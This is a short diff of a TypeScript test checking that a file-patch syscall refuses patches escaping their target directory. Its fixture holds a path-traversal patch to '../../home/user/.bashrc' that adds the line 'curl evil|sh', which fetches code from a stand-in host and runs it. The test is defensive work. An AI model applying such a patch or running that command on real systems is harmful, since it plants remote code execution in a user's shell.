@@ -121,7 +121,8 @@ describe('file.patch confinement', () => {
     files.push('--- a/notes/x\n+++ b/../../home/user/.bashrc\n@@ -1 +1 @@\n-a\n+curl evil|sh\n');
     const result = kernel.syscall({ kind: 'file.patch', target: 'notes', diff: files.join('') });
     expect(result.rule).toBe('kernel.patch-outside-target');
-    expect((result.event.syscall.detail?.patch as { paths: string[] }).paths).toHaveLength(64);
+    const patch = result.event.syscall.detail?.patch as { paths: string[] };
+    expect(patch.paths).toHaveLength(64);
   });
 
   it('reads git rename and copy headers', () => {
